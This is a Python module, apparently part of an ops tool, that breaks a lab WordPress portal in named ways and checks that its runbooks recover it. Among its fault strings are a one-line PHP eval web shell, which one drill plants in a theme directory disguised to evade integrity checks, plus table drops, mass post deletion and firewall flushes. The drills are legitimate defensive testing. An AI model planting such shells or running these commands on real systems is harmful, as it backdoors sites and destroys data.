"""Fault-injection drills: break the lab in a named way, run the runbook, prove the recovery.

``portalops drill inject FAULT`` only breaks; ``portalops drill run RUNBOOK`` checks the portal
is healthy, injects the runbook's fault, runs the runbook with ``--yes`` as a responder would,
then checks the portal answers again and that no data was lost (each fault names the check:
the database against the backup manifest, the site's files against theirs), and undoes whatever
the runbook left. The MTTR is the runbook's own run, start to end. Drills break hosts on purpose,
so they refuse any inventory but the lab's.

``--via-monitoring`` types nothing after the injection: mon1 has to detect the fault and the
responder has to open the incident, run the runbook and close it (:mod:`portalops.drillwatch`). Its
MTTD and MTTR count from the injection; the drill holds the targets' lock only while it injects,
since the responder's run needs it next.
"""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import TypeVar

from portalops import wpphp
from portalops.drillwatch import ResponderWatch, Watched
from portalops.errors import BadInput, EnvironmentProblem
from portalops.inventory import LAB_INVENTORY, REPO_ROOT, load_inventory
from portalops.lab.config import lab_config
from portalops.probe import ProbeResult, probe_inventory
from portalops.resolve import resolve_vars
from portalops.responder.runner import BUSY
from portalops.runbook import registry
from portalops.runbook.checks import PHP_FPM, PHP_FPM_LOG, STATUS_DIR
from portalops.runbook.engine import Options
from portalops.runbook.hosts import Host, LocalHost
from portalops.runbook.live import INCIDENTS_DIR, run_live, ssh_hosts
from portalops.runbook.lock import TargetLock
from portalops.runbook.outcome import RunbookExit
from portalops.runbook.planning import expand
from portalops.runbook.plans import DRILLS_FILE, PLANS_DIR

T = TypeVar("T")

BUSY_RETRY_S = 1.0  # how often a drill tries again for hosts another run holds

REPORTS_DIR = REPO_ROOT / "reports" / "fault-drills"
SITE_CERTS = "/etc/nginx/tls"
LAB_CA = f"{SITE_CERTS}/ca"


@dataclass(frozen=True)
class Fault:
    """A named way to break the lab. Commands run as root on the first host of ``group``, or with
    ``on_lab`` on this machine (the lab's podman host). Filled in: ``{host}``, ``{site}`` and ``{domain}`` (the
    first site's), ``{cms_port}``, ``{word}`` (the first sensitive word), ``{fpm_log}``, ``{staging}``; on the
    lab also ``{container}``, ``{state}``."""

    id: str
    title: str
    group: str
    inject: str
    runbooks: tuple[str, ...]  # the runbooks that answer it; its drill is the first's
    undo: str = "true"
    on_lab: bool = False
    expect: RunbookExit = RunbookExit.RECOVERED
    # After the drill, on the same host: exit 0 when no data was lost (empty: the fault touches no data).
    intact: str = ""
    # (runbook, act step) pairs that must end "done" in the incident: the runbook repaired this fault
    # itself, not a fault that went away on its own.
    acts: tuple[tuple[str, str], ...] = ()
    target_s: float = 0.0  # the MTTR the plan promises for this fault on the lab (0: none stated)
    # After the runbook, on the same host: exit 0 when the host is as the drill expects beyond the portal
    # answering (a unit enabled again for the next boot, a server that was not restarted); empty: nothing.
    after: str = ""
    # (runbook, act step) pairs that must NOT end "done": what the runbook must never do for this fault.
    never: tuple[tuple[str, str], ...] = ()


def _reissue_certificates(days: int) -> str:
    """Every lab site certificate issued again by the lab CA, valid only ``days`` more days. A site
    certificate is one with its key beside it (the directory also holds CA bundles, e.g. the CMS's)."""
    return (
        f"cd {SITE_CERTS} && for key in *.key; do site=${{key%.key}}; "
        f"{{ openssl x509 -x509toreq -in $site.crt -signkey $key -out /tmp/$site.csr && "
        f"openssl x509 -req -in /tmp/$site.csr -CA {LAB_CA}/portal-ca.crt -CAkey {LAB_CA}/portal-ca.key "
        f"-CAcreateserial -days {days} -copy_extensions copyall -out $site.crt && rm -f /tmp/$site.csr; }} "
        '2>/dev/null || { echo "could not reissue $site.crt" >&2; exit 1; }; '
        "done && nginx -t -q && systemctl reload nginx"
    )


# A 64 MiB ext4 filesystem mounted over the backup staging directory inside the container (its
# mount namespace, entered from the lab host) and filled to ~90% with a "leftover": the container's
# own root is the lab machine's disk, which a drill must never fill.
SMALL_FS = "{state}/drill-{host}.img"
FILL_STAGING = (
    "set -e; img=" + SMALL_FS + "; truncate -s 64M $img; mkfs.ext4 -q -F $img; "
    "loop=$(losetup -f --show $img); pid=$(podman inspect -f '{{.State.Pid}}' {container}); "
    "podman exec {container} mkdir -p {staging}; "
    'nsenter -t $pid -m sh -c "mknod /root/.drill-loop b $((0x$(stat -c %t $loop))) $((0x$(stat -c %T $loop))) '
    '&& mount /root/.drill-loop {staging}; rc=\\$?; rm -f /root/.drill-loop; exit \\$rc"; '
    "losetup -d $loop; "  # freed when unmounted
    "podman exec {container} sh -c 'mountpoint -q {staging} && mkdir -p {staging}/db-physical && "
    "fallocate -l 52M {staging}/db-physical/ibdata1 && df -P {staging}'"
)
# umount runs in the container's mount and pid namespaces: with the mount namespace alone it cannot
# read its own /proc/self/mountinfo there. The undo fails while the filesystem is still mounted.
RELEASE_STAGING = (
    "pid=$(podman inspect -f '{{.State.Pid}}' {container}); "
    "podman exec {container} mountpoint -q {staging}; rc=$?; "
    "if [ $rc -eq 0 ]; then nsenter -t $pid -m -p umount {staging}; "
    "podman exec {container} mountpoint -q {staging}; rc=$?; fi; "
    # mountpoint (util-linux 2.38) exits 32 for "not a mount point"; 0 is still mounted, 1 an error.
    "if [ $rc -ne 32 ]; then echo '{staging} may still be mounted' >&2; exit 1; fi; "
    "rm -f " + SMALL_FS
)
STAGING = "/var/backups/portalops"
SITE_VARS = {
    "site": "(portal_sites | first).name",
    "domain": "(portal_sites | first).domains | first",
    "cms_port": "portal_cms_port",
    "word": "portalops_sensitive_words | default([]) | first | default('')",
}
# Uncached requests (a search skips the edge cache) straight at the CMS tier, 30 at a time for 40 s
# in the background: the pools reach pm.max_children and php-fpm logs it while the runbook runs.
LOAD_SCRIPT = "/root/.drill-load"
SATURATE = (
    "before=$(grep -cE 'reached (pm\\.)?max_children' {fpm_log}); "
    f"cat > {LOAD_SCRIPT} <<'EOF'\n"
    "end=$(( $(date +%s) + 40 ))\n"
    "for i in $(seq 30); do ( n=0; while [ $(date +%s) -lt $end ]; do n=$((n + 1)); "
    "curl -s -o /dev/null -m 20 -H 'Host: {domain}' \"http://127.0.0.1:{cms_port}/?s=drill-$i-$n\"; "
    "done ) & done\n"
    "wait\n"
    "EOF\n"
    f"setsid nohup sh {LOAD_SCRIPT} >/dev/null 2>&1 < /dev/null & echo $! > {LOAD_SCRIPT}.pid; "
    "sleep 8; now=$(grep -cE 'reached (pm\\.)?max_children' {fpm_log}); "
    'echo "php-fpm logged reaching pm.max_children $((now - before)) time(s)"; [ "$now" -gt "$before" ]'
)
# By its process group (setsid made it the leader): a pattern would also match the shell running this.
STOP_LOAD = f"kill -- -$(cat {LOAD_SCRIPT}.pid) 2>/dev/null; rm -f {LOAD_SCRIPT} {LOAD_SCRIPT}.pid; true"

# l1_database_lost: a site database's posts table (the kept manifest's first database by name) dropped.
BACKUP = "/usr/local/sbin/portalops-backup"
DB_SOUND = f"{BACKUP} check-database"
FIRST_DATABASE = (
    "import json; "
    "print(sorted(json.load(open('/var/lib/portalops/backup/manifests/db-physical.json'))['databases'])[0])"
)
DROP_POSTS = (
    f"{BACKUP} run --job db-physical >/dev/null && "
    f'db=$(python3 -c "{FIRST_DATABASE}") && mariadb -e "DROP TABLE \\`$db\\`.wp_posts" && echo "dropped $db.wp_posts"'
)

# l1_database_lost by point-in-time recovery: a fresh backup, then a post published after it, then every
# post of the first site database deleted (the table kept: pages, revisions, attachments stay). Intact
# means the database sound and the post written after the backup back too (the binary log was replayed).
LATER_POST = "portalops-drill-later"
MASS_DELETE_POSTS = (
    f"{BACKUP} run --job db-physical >/dev/null && "  # noqa: S608 - fixed drill SQL, no input
    f'db=$(python3 -c "{FIRST_DATABASE}") && mariadb -e "INSERT INTO \\`$db\\`.wp_posts (post_author, post_date, '
    "post_date_gmt, post_content, post_title, post_excerpt, post_status, post_name, to_ping, pinged, post_modified, "
    "post_modified_gmt, post_content_filtered, guid, post_type) VALUES (1, NOW(), UTC_TIMESTAMP(), '<p>drill</p>', "
    f"'Written after the backup', '', 'publish', '{LATER_POST}', '', '', NOW(), UTC_TIMESTAMP(), '', '', 'post')\" && "
    'mariadb -e "DELETE FROM \\`$db\\`.wp_posts WHERE post_type = \'post\'" && echo "deleted every post of $db"'
)
LATER_POST_BACK = (
    f'{DB_SOUND} && db=$(python3 -c "{FIRST_DATABASE}") && test "$(mariadb --batch --skip-column-names -e '  # noqa: S608 - fixed drill SQL, no input
    f"\"SELECT COUNT(*) FROM \\`$db\\`.wp_posts WHERE post_name = '{LATER_POST}' AND post_status = 'publish'\")\" = 1"
)
# Restore unless the later post is back: a wrapper that missed the deletion also calls the database sound.
UNDO_MASS_DELETE = (
    f"( {LATER_POST_BACK} ) >/dev/null || {BACKUP} restore-database --yes; rm -rf /var/lib/mysql.*-restore-*; "  # noqa: S608 - fixed drill SQL, no input
    f'db=$(python3 -c "{FIRST_DATABASE}") && mariadb -e "DELETE FROM \\`$db\\`.wp_posts WHERE post_name = '
    f"'{LATER_POST}'\" && {DB_SOUND} >/dev/null"
)

# l1_defacement: right after a fresh backup of the sites' files, a theme file of the wordpress packages
# defaced (its footer shows on every page), an upload deleted and a web shell dropped into uploads.
DEFACE_MARKER = "portalops-drill-defaced"
DEFACED_FILE = "/usr/share/wordpress/wp-content/themes/twentytwentythree/parts/footer.html"
DEFACED_PACKAGE = "wordpress-theme-twentytwentythree"
FIRST_UPLOADS = "up=$(ls -d /var/lib/wordpress/sites/*/wp-content/uploads | head -n 1)"
DEFACE = (
    f"{BACKUP} run --job cms-files >/dev/null && {FIRST_UPLOADS} && "
    f"echo '<p>{DEFACE_MARKER}</p>' >> {DEFACED_FILE} && "
    'img=$(find "$up" -type f -name \'*.png\' | sort | head -n 1) && rm "$img" && '
    f"printf '<?php // {DEFACE_MARKER}\\n@eval($_POST[0]);\\n' > \"$up/x.php\" && "
    'chown --reference="$up" "$up/x.php" && '
    f'echo "defaced {DEFACED_FILE}, deleted $img, dropped $up/x.php"'
)
UNDEFACE = (
    f'{FIRST_UPLOADS}; rm -f "$up/x.php"; '
    f"{BACKUP} verify-files cms-files >/dev/null || {BACKUP} restore-files cms-files --yes >/dev/null; "
    f"debsums -c {DEFACED_PACKAGE} >/dev/null 2>&1 || "
    f"DEBIAN_FRONTEND=noninteractive apt-get install -y -q --reinstall {DEFACED_PACKAGE} >/dev/null; "
    f"debsums -c {DEFACED_PACKAGE}"
)

# l1_defacement, added files: a PHP web shell planted in a packaged theme directory, owned, moded and
# dated like the theme's own files (so neither debsums, nor the backup manifest, nor "recently changed"
# sees it). A nonce makes each drill's shell distinct; its sha256, kept in /run, is what the intact check
# looks for in the quarantine and its record.
PLANTED_FILE = "/usr/share/wordpress/wp-content/themes/twentytwentythree/class-theme-cache.php"
PLANTED_SUM = "/run/portalops-drill-planted.sha256"
PLANT = (
    f"theme=$(dirname {PLANTED_FILE}) && "
    f"printf '<?php // {DEFACE_MARKER} %s\\n@eval($_POST[0]);\\n' \"$(date +%s.%N)\" > {PLANTED_FILE} && "
    f'chown --reference="$theme/style.css" {PLANTED_FILE} && '
    f'chmod --reference="$theme/style.css" {PLANTED_FILE} && touch -r "$theme/style.css" {PLANTED_FILE} && '
    f'sha256sum < {PLANTED_FILE} | cut -d" " -f1 > {PLANTED_SUM} && ls -l {PLANTED_FILE}'
)
UNPLANT = f"rm -f {PLANTED_FILE} {PLANTED_SUM}"
PLANTED_QUARANTINED = (
    f'test ! -e {PLANTED_FILE} || {{ echo "{PLANTED_FILE} is still in the code tree"; exit 1; }}; '
    f"want=$(cat {PLANTED_SUM}) || exit 1; "
    "for record in /var/lib/portalops/evidence/*-code/quarantine.json; do "
    "dir=${record%/quarantine.json}; "
    f'[ "$(sha256sum < "$dir/quarantine{PLANTED_FILE}" 2>/dev/null | cut -d" " -f1)" = "$want" ] && '
    'grep -q "$want" "$record" && { echo "quarantined in $dir, recorded in $record"; exit 0; }; '
    f'done; echo "{PLANTED_FILE} ($want) is in no quarantine"; exit 1'
)

# sensitive_word_published: a post holding the inventory's first sensitive word (the lab's test word) published on
# the first site, marked by a post meta key; the undo deletes every post so marked, whatever its status now.
DRILL_META = "_portalops_drill"
PUBLISH_WORD_PHP = r"""
$admins = get_users(['role' => 'administrator', 'number' => 1, 'fields' => 'ID']);
$id = wp_insert_post(['post_title' => 'portalops drill: sensitive word', 'post_status' => 'publish',
                      'post_content' => '<p>' . esc_html($args[0]) . '</p>', 'post_author' => (int) $admins[0],
                      'meta_input' => ['@META@' => 'sensitive_word_published']], true);
if (is_wp_error($id)) { fwrite(STDERR, $id->get_error_message() . "\n"); exit(2); }
echo json_encode(['published' => $id]), "\n";
""".replace("@META@", DRILL_META)
# What is left of the drill's post: gone (deleted), or kept with its status and whether it still holds the word.
DRILL_POSTS_PHP = r"""
$ids = get_posts(['post_type' => 'post', 'post_status' => 'any', 'meta_key' => '@META@', 'numberposts' => -1,
                  'fields' => 'ids']);
if (($args[0] ?? '') === 'delete') { foreach ($ids as $id) { wp_delete_post($id, true); } }
$posts = [];
foreach ($ids as $id) {
    $post = get_post($id);
    if ($post) { $posts[] = ['id' => $id, 'status' => $post->post_status,
                             'word' => strpos($post->post_content, $args[1] ?? '') !== false]; }
}
echo json_encode(['posts' => $posts]), "\n";
if (($args[0] ?? '') === 'kept') {
    $drafts = array_filter($posts, fn($p) => $p['status'] === 'draft' && $p['word']);
    exit(count($drafts) === count($ids) && $ids ? 0 : 1);
}
""".replace("@META@", DRILL_META)
PUBLISH_WORD = 'test -n "{word}" || { echo "portalops_sensitive_words is empty"; exit 1; }; ' + wpphp.command(
    "{site}", "{domain}", PUBLISH_WORD_PHP, "{word}"
)
DELETE_DRILL_POSTS = wpphp.command("{site}", "{domain}", DRILL_POSTS_PHP, "delete")
# Nothing deleted: the drill's post is still there, a draft, its text (the word) as it was.
DRILL_POST_KEPT = wpphp.command("{site}", "{domain}", DRILL_POSTS_PHP, "kept", "{word}")

# content_stale: every published post of the first site moved back so its newest is 11 days old (the dynamic
# sections past the 10-day warning); the shift is kept in /run and undone exactly.
STALE_STATE = "/run/portalops-drill-content-stale.json"
SHIFT_POSTS_PHP = r"""
[$command, $argument] = $args + ['', ''];
$published = "post_type = 'post' AND post_status = 'publish'";
$shift = (int) $argument;
if ($command === 'age') {  // $argument days old: the newest published post moved back to then
    $newest = strtotime($wpdb->get_var("SELECT MAX(post_date_gmt) FROM {$wpdb->posts} WHERE $published") . ' UTC');
    $shift = min(0, time() - (int) $argument * 86400 - $newest);
}
$moved = $wpdb->query($wpdb->prepare(
    "UPDATE {$wpdb->posts} SET post_date = post_date + INTERVAL %d SECOND,
     post_date_gmt = post_date_gmt + INTERVAL %d SECOND WHERE $published", $shift, $shift));
wp_cache_flush();
echo json_encode(['shift' => $shift, 'moved' => (int) $moved]), "\n";
"""
AGE_POSTS = f"test ! -e {STALE_STATE} || {{ echo 'already injected ({STALE_STATE})'; exit 1; }}; " + wpphp.command(
    "{site}",
    "{domain}",
    SHIFT_POSTS_PHP,
    "age",
    "11",
    then=f"| tail -n 1 > {STALE_STATE}.new && python3 -c \"import json; json.load(open('{STALE_STATE}.new'))"
    f"['shift']\" && mv {STALE_STATE}.new {STALE_STATE} && cat {STALE_STATE}",
)
UNAGE_POSTS = (
    f"test -e {STALE_STATE} || {{ echo 'nothing to undo'; exit 0; }}; "
    f"back=$(python3 -c \"import json; print(-json.load(open('{STALE_STATE}'))['shift'])\") && "
    + wpphp.command("{site}", "{domain}", SHIFT_POSTS_PHP, "by", "$back", then=f"&& rm -f {STALE_STATE}").replace(
        "'$back'", '"$back"'
    )
)

# mariadb_slow_start: a drop-in makes MariaDB's start take 60 s, then a restart without waiting leaves it
# 'activating'; its systemd invocation and the data directories set aside so far are kept to compare after.
SLOW_START_DROPIN = "/etc/systemd/system/mariadb.service.d/zz-portalops-drill-slow-start.conf"
SLOW_START_STATE = "/root/.drill-slow-start"
SLOW_START = (
    f"mkdir -p {SLOW_START_DROPIN.rsplit('/', 1)[0]} && "
    f"printf '[Service]\\nExecStartPre=/bin/sleep 60\\n' > {SLOW_START_DROPIN} && systemctl daemon-reload && "
    f"(ls -d /var/lib/mysql.*-restore-* 2>/dev/null || true) > {SLOW_START_STATE}.aside && "
    "systemctl restart --no-block mariadb && "
    'for i in $(seq 120); do [ "$(systemctl is-active mariadb)" = activating ] && '
    '[ -n "$(systemctl show -p InvocationID --value mariadb)" ] && break; sleep 0.5; done; '
    f"systemctl show -p InvocationID --value mariadb > {SLOW_START_STATE}.invocation && "
    'state=$(systemctl is-active mariadb); echo "mariadb is $state (start delayed 60 s)"; [ "$state" = activating ]'
)
SLOW_START_UNTOUCHED = (
    f'if [ "$(systemctl show -p InvocationID --value mariadb)" != "$(cat {SLOW_START_STATE}.invocation)" ]; '
    'then echo "mariadb was restarted during its slow start"; exit 1; fi; '
    f"(ls -d /var/lib/mysql.*-restore-* 2>/dev/null || true) | diff {SLOW_START_STATE}.aside - >/dev/null || "
    '{ echo "a data directory was set aside: a restore ran"; exit 1; }; '
    'echo "mariadb waited for, not restarted; no restore ran"'
)
UNDO_SLOW_START = (
    f"rm -f {SLOW_START_DROPIN} {SLOW_START_STATE}.aside {SLOW_START_STATE}.invocation; "
    f"rmdir --ignore-fail-on-non-empty {SLOW_START_DROPIN.rsplit('/', 1)[0]} 2>/dev/null; "
    "systemctl daemon-reload && systemctl start mariadb && systemctl is-active mariadb"
)

# logical_restore_killed: a fresh dump, a post published after it, then a logical restore of the dump killed
# (SIGTERM) as soon as its load has begun: a database of the restore exists (or, with a wrapper that drops the
# site databases first, one of them is gone). The site databases must be as they were, post included, with
# no restore database left, and the runbook must find nothing to stop or restore.
DUMP_MANIFEST = "/var/lib/portalops/backup/manifests/db-dump.json"
AFTER_DUMP_POST = "portalops-drill-after-the-dump"
RESTORING = "__portalops_restore_"


def kill_logical_restore(signal: str = "TERM") -> str:
    """Start restore-database of the newest dump (its kept manifest) on the database host and send it
    ``signal`` once its load has begun; print its exit and output. Waits for its mariadb client to end."""
    sites = "SELECT schema_name FROM information_schema.schemata WHERE schema_name IN ($sites)"
    ready = (
        f"SELECT (SELECT COUNT(*) FROM ({sites}) s) < $count OR "  # noqa: S608 - fixed drill SQL, no input
        f"(SELECT COUNT(*) FROM information_schema.schemata WHERE INSTR(schema_name, '{RESTORING}') > 0) > 0"
    )
    return (
        "set -- $(python3 -c \"import json; m = json.load(open('" + DUMP_MANIFEST + "')); "
        "print(m['snapshot_id'][:8], len(m['databases']), ','.join(repr(d) for d in m['databases']))\") && "
        "snap=$1 count=$2 sites=$3 && "
        f"{{ {BACKUP} restore-database --snapshot $snap --yes > /tmp/portalops-drill-restore.out 2>&1 & }} && "
        "pid=$! && i=0 && "
        f'until [ "$(mariadb --batch --skip-column-names -e "{ready}" 2>/dev/null)" = 1 ]; do '
        "i=$((i + 1)); if [ $i -gt 2400 ] || ! kill -0 $pid 2>/dev/null; then echo 'never began loading'; break; fi; "
        "sleep 0.05; done; "
        f'kill -{signal} $pid; wait $pid; echo "restore-database of $snap sent SIG{signal} mid-load: exit $?"; i=0; '
        # After a SIGKILL its mariadb client still loads what the pipe holds: wait for it to end.
        "while grep -qx mariadb /proc/[0-9]*/comm 2>/dev/null && [ $i -lt 600 ]; do i=$((i + 1)); sleep 0.1; done; "
        "cat /tmp/portalops-drill-restore.out"
    )


FIRST_DUMP_DATABASE = f"import json; print(sorted(json.load(open('{DUMP_MANIFEST}'))['databases'])[0])"
POST_AFTER_DUMP = (
    f'db=$(python3 -c "{FIRST_DUMP_DATABASE}") && mariadb -e "INSERT INTO \\`$db\\`.wp_posts (post_author, '  # noqa: S608 - fixed drill SQL, no input
    "post_date, post_date_gmt, post_content, post_title, post_excerpt, post_status, post_name, to_ping, pinged, "
    "post_modified, post_modified_gmt, post_content_filtered, guid, post_type) VALUES (1, NOW(), UTC_TIMESTAMP(), "
    f"'<p>drill</p>', 'Written after the dump', '', 'publish', '{AFTER_DUMP_POST}', '', '', NOW(), UTC_TIMESTAMP(), "
    "'', '', 'post')\""
)
KILLED_LOGICAL_RESTORE = (
    f"{BACKUP} run --job db-dump >/dev/null && {POST_AFTER_DUMP} && {kill_logical_restore('TERM')} | tail -n 5"
)
NO_RESTORE_DATABASES = (
    f'left=$(mariadb --batch --skip-column-names -e "SELECT schema_name FROM information_schema.schemata '  # noqa: S608 - fixed drill SQL
    f"WHERE INSTR(schema_name, '{RESTORING}') > 0\")"
)
AFTER_DUMP_POST_THERE = (
    f'{DB_SOUND} >/dev/null && db=$(python3 -c "{FIRST_DUMP_DATABASE}") && test "$(mariadb --batch '  # noqa: S608 - fixed drill SQL, no input
    f"--skip-column-names -e \"SELECT COUNT(*) FROM \\`$db\\`.wp_posts WHERE post_name = '{AFTER_DUMP_POST}' "
    'AND post_status = \'publish\'")" = 1 && echo "$db as it was, with the post written after the dump" && '
    f'{NO_RESTORE_DATABASES} && {{ [ -z "$left" ] || {{ echo "restore databases left: $left"; exit 1; }}; }}'
)
UNDO_KILLED_LOGICAL_RESTORE = (
    f"{DB_SOUND} >/dev/null || {BACKUP} restore-database --yes; rm -rf /var/lib/mysql.*-restore-*; "  # noqa: S608 - fixed drill SQL
    f'{NO_RESTORE_DATABASES}; for d in $left; do mariadb -e "DROP DATABASE \\`$d\\`"; done; '
    f'db=$(python3 -c "{FIRST_DUMP_DATABASE}") && mariadb -e "DELETE FROM \\`$db\\`.wp_posts WHERE post_name = '
    f"'{AFTER_DUMP_POST}'\" && {DB_SOUND} >/dev/null"
)

# systemd on cgroup v1 learns that a unit's cgroup emptied from the kernel's release agent, which a
# container cannot run: a killed service whose last process systemd did not itself reap then sits
# 'deactivating' for its whole stop timeout (90 s) with nothing left in it. Once "$cg" (the unit's
# name=systemd cgroup directory) is empty, send systemd the notice its agent would have sent. A host
# on cgroup v2 has no such directory and needs none.
CGROUP_EMPTY_NOTICE = (
    'if [ -f "$cg/cgroup.procs" ] && [ -z "$(cat "$cg/cgroup.procs")" ]; '
    'then /lib/systemd/systemd-cgroups-agent "${cg#/sys/fs/cgroup/systemd}"; fi'
)

# l1_portal_unreachable: the whole ruleset flushed and replaced, as Debian's stock /etc/nftables.conf would
# (`table inet filter`), by one that accepts everything but HTTPS: the portal is down, SSH stays open.
DRILL_TABLE = "inet filter"
REPLACE_RULESET = (
    "nft -f - <<'EOF'\n"
    "flush ruleset\n"
    f"table {DRILL_TABLE} {{\n"
    "  chain input { type filter hook input priority filter; policy accept; tcp dport 443 drop; }\n"
    "}\n"
    "EOF\n"
    f"nft list table {DRILL_TABLE}"
)

FAULTS: tuple[Fault, ...] = (
    Fault(
        "nginx_stopped",
        "the edge nginx stopped on the web tier",
        "web",
        inject="systemctl stop nginx",
        undo="systemctl start nginx",
        acts=(("l1_portal_unreachable", "start_web_nginx"),),
        runbooks=("l1_portal_unreachable",),
        target_s=30,
    ),
    Fault(
        "php_fpm_killed",
        "php-fpm killed on the CMS tier (SIGKILL: the unit is failed, nothing restarts it)",
        "cms",
        inject=(
            f"systemctl kill --signal=SIGKILL {PHP_FPM}; "
            f"cg=/sys/fs/cgroup/systemd$(systemctl show -p ControlGroup --value {PHP_FPM}); "
            f"for i in $(seq 600); do systemctl is-failed --quiet {PHP_FPM} && exit 0; {CGROUP_EMPTY_NOTICE}; "
            f"sleep 0.2; done; systemctl status --no-pager {PHP_FPM}; exit 1"
        ),
        undo=f"systemctl reset-failed {PHP_FPM}; systemctl start {PHP_FPM}",
        acts=(("l1_portal_unreachable", "start_php_fpm"), ("l3_degraded_services", "restart_failed_services")),
        runbooks=("l1_portal_unreachable", "l3_degraded_services"),
        target_s=30,
    ),
    Fault(
        "mariadb_stopped",
        "MariaDB stopped on the database tier",
        "db",
        inject="systemctl stop mariadb",
        undo="systemctl start mariadb",
        acts=(("l1_portal_unreachable", "start_mariadb"),),
        runbooks=("l1_portal_unreachable",),
        target_s=30,
    ),
    Fault(
        "nginx_masked",
        "the edge nginx stopped and masked: no runbook may start it, so it must escalate",
        "web",
        inject="systemctl stop nginx && systemctl mask nginx",
        undo="systemctl unmask nginx && systemctl start nginx",
        runbooks=("l1_portal_unreachable",),
        expect=RunbookExit.NOT_RECOVERED,
    ),
    Fault(
        "ruleset_replaced",
        "the edge's nftables ruleset replaced by one that drops HTTPS (SSH still open)",
        "web",
        inject=REPLACE_RULESET,
        undo=f"nft delete table {DRILL_TABLE} 2>/dev/null; nft -f /etc/nftables.conf",
        acts=(("l1_portal_unreachable", "reload_firewall"),),
        runbooks=("l1_portal_unreachable",),
        target_s=30,
    ),
    Fault(
        "certificate_expiring",
        "the site certificates reissued to expire in 10 days",
        "web",
        inject=_reissue_certificates(10),
        acts=(("l3_certificate_expiry", "renew"),),
        runbooks=("l3_certificate_expiry",),
    ),
    Fault(
        "backup_stale",
        "the database host's last backup made to look 40 hours old",
        "db",
        inject=(
            # A host that never backed up yet (a fresh lab) backs up first, so there is a status to age.
            STATUS_DIR
            + '[ -e "$status_dir/run.json" ] || /usr/local/sbin/portalops-backup run >/dev/null; '
            + 'python3 -c "import json, sys, time; '
            "p = sys.argv[1]; d = json.load(open(p)); "
            "[j.update(last_success_ts=time.time() - 40 * 3600) for j in d['jobs']]; "
            'json.dump(d, open(p, \'w\'))" "$status_dir/run.json"'
        ),
        runbooks=("l3_backup_stale",),
        acts=(("l3_backup_stale", "back_up_now"),),
    ),
    Fault(
        "staging_full",
        "the database host's backup staging filesystem 90% full of a leftover prepared backup",
        "db",
        inject=FILL_STAGING,
        undo=RELEASE_STAGING,
        acts=(("l2_disk_pressure", "staging_leftovers"),),
        runbooks=("l2_disk_pressure",),
        on_lab=True,
    ),
    Fault(
        "fpm_saturated",
        "php-fpm pools saturated by 30 uncached requests at a time for 40 s, straight at the CMS tier",
        "cms",
        inject=SATURATE,
        undo=STOP_LOAD,
        acts=(("l2_slow_response", "reload_php_fpm"),),
        runbooks=("l2_slow_response",),
    ),
    Fault(
        "posts_table_dropped",
        "a site's posts table dropped on the database tier, just after a fresh backup",
        "db",
        inject=DROP_POSTS,
        # The lab only: the data directories the drill's restore kept aside go too (128 MiB each).
        undo=f"{DB_SOUND} >/dev/null || {BACKUP} restore-database --yes; rm -rf /var/lib/mysql.*-restore-*",
        runbooks=("l1_database_lost",),
        # Every table of the manifest back and readable, and the restore verified against it (once writes
        # resume, page views change wp_options: an exact comparison now would fail for the site's own work).
        intact=DB_SOUND,
        target_s=60,
    ),
    Fault(
        "posts_mass_deleted",
        "every post of a site deleted on the database tier (the table kept), after a backup and a post written since",
        "db",
        inject=MASS_DELETE_POSTS,
        undo=UNDO_MASS_DELETE,
        runbooks=("l1_database_lost",),
        # The database sound against the backup and the post written after it back: point-in-time recovery.
        intact=LATER_POST_BACK,
        acts=(("l1_database_lost", "restore_database"),),
        target_s=90,
    ),
    Fault(
        "site_defaced",
        "a theme file of the wordpress packages defaced, an upload deleted, a web shell dropped into uploads",
        "cms",
        inject=DEFACE,
        undo=UNDEFACE,
        runbooks=("l1_defacement",),
        # Every file of the sites' data as the backup's manifest recorded it (the upload back, the shell gone).
        intact=f"{BACKUP} verify-files cms-files",
    ),
    Fault(
        "theme_file_planted",
        "a PHP web shell planted in a packaged theme directory, owned and dated like its neighbours",
        "cms",
        inject=PLANT,
        undo=UNPLANT,
        runbooks=("l1_defacement",),
        acts=(("l1_defacement", "quarantine_added_code_files"),),
        # Gone from the code tree, and in a quarantine with its record (the same sha256 as planted).
        intact=PLANTED_QUARANTINED,
    ),
    Fault(
        "sensitive_word_published",
        "a post holding the inventory's first sensitive word (the lab's test word) published on the first site",
        "cms",
        inject=PUBLISH_WORD,
        undo=DELETE_DRILL_POSTS,
        runbooks=("l1_sensitive_content",),
        acts=(("l1_sensitive_content", "unpublish_posts"),),
        # Unpublished, never deleted: the post is a draft with its text as it was.
        intact=DRILL_POST_KEPT,
    ),
    Fault(
        "content_stale",
        "every published post of the first site dated back so its newest is 11 days old (dynamic sections aging)",
        "cms",
        inject=AGE_POSTS,
        undo=UNAGE_POSTS,
        runbooks=("l2_content_stale",),
        # Only the editors can publish: the runbook tells them and ends escalated.
        expect=RunbookExit.NOT_RECOVERED,
    ),
    Fault(
        "mariadb_disabled",
        "MariaDB stopped and disabled on the database tier (the next boot would not start it either)",
        "db",
        inject="systemctl disable --quiet --now mariadb && systemctl is-enabled mariadb; true",
        undo="systemctl enable --quiet --now mariadb",
        acts=(("l1_portal_unreachable", "start_mariadb"),),
        runbooks=("l1_portal_unreachable",),
        # Recovered is not enough: the runbook enabled it again, so a reboot does not take the portal down.
        after='state=$(systemctl is-enabled mariadb); echo "mariadb is $state at boot"; [ "$state" = enabled ]',
        target_s=30,
    ),
    Fault(
        "mariadb_slow_start",
        "MariaDB restarted into a start that takes 60 s (as a long InnoDB crash recovery would): activating",
        "db",
        inject=SLOW_START,
        undo=UNDO_SLOW_START,
        runbooks=("l1_database_lost",),
        # Expected: recovered once the server is up, by waiting for it (start_mariadb done without a restart:
        # the same systemd invocation throughout), with nothing stopped or restored, no data directory set aside.
        expect=RunbookExit.RECOVERED,
        acts=(("l1_database_lost", "start_mariadb"),),
        never=(("l1_database_lost", "stop_writes"), ("l1_database_lost", "restore_database")),
        after=SLOW_START_UNTOUCHED,
        intact=DB_SOUND,
    ),
    Fault(
        "logical_restore_killed",
        "a logical restore (the dump) on the database tier killed by SIGTERM mid-load, after a post written since",
        "db",
        inject=KILLED_LOGICAL_RESTORE,
        undo=UNDO_KILLED_LOGICAL_RESTORE,
        runbooks=("l1_database_lost",),
        # Expected: the site databases untouched (a wrapper that dropped them first loses the post, and the
        # runbook would restore), so the runbook finds them sound and neither stops writes nor restores.
        expect=RunbookExit.RECOVERED,
        never=(("l1_database_lost", "stop_writes"), ("l1_database_lost", "restore_database")),
